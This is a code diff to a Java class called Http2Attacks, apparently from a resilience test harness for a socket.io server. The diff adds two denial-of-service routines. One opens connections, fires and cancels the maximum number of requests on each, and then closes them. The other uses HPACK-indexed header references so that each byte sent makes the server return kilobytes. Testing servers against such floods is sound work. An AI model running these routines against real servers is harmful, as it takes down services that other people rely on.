@@ -14,12 +14,12 @@ final class Http2Attacks {
     private static final String FILE = "/socket.io/socket.io.js";
     /** The initial window of the server for bodies (RFC 9113, 6.9.2). */
     private static final int WINDOW = 65_535;
-    private static final int WHOLE = END_STREAM | END_HEADERS;
+    static final int WHOLE = END_STREAM | END_HEADERS;
 
     private Http2Attacks() {
     }
 
-    private static Http2 open(Attacker attacker, int window) throws IOException {
+    static Http2 open(Attacker attacker, int window) throws IOException {
         Http2 http2 = attacker.http2().settings(window);
         http2.first();
         return http2.acknowledgeSettings();
@@ -53,6 +53,31 @@ final class Http2Attacks {
         attacker.drain(http2.raw());
         while (attacker.goesOn()) {
             http2.reset(http2.request("GET", attacker.random.nextBoolean() ? FILE : Attacker.POLLING, WHOLE));
+        }
+    }
+
+    /** Connections that each cancel as many requests as a connection may, and are closed at once. */
+    static void resetsThenClosed(Attacker attacker) throws IOException {
+        String path = attacker.random.nextBoolean() ? FILE : Attacker.POLLING;
+        while (attacker.goesOn()) {
+            Http2 http2 = attacker.http2().settings(WINDOW).acknowledgeSettings();
+            http2.together(() -> {
+                for (int i = 0; i < HttpAttacks.REQUESTS; i++) {
+                    http2.reset(http2.request("GET", path, WHOLE));
+                }
+            });
+            attacker.closeNow(http2.raw().socket());
+        }
+    }
+
+    /** Requests that name a large field by its index in the table of HPACK: one byte sent stands for kilobytes received. */
+    static void fieldsIndexed(Attacker attacker) throws IOException {
+        Http2 http2 = open(attacker, WINDOW);
+        attacker.drain(http2.raw());
+        int times = attacker.between(1, 30);
+        while (attacker.goesOn()) {
+            http2.requestWithIndexed(Attacker.POLLING, WHOLE, 3900, times);
+            attacker.pause(2);
         }
     }
 
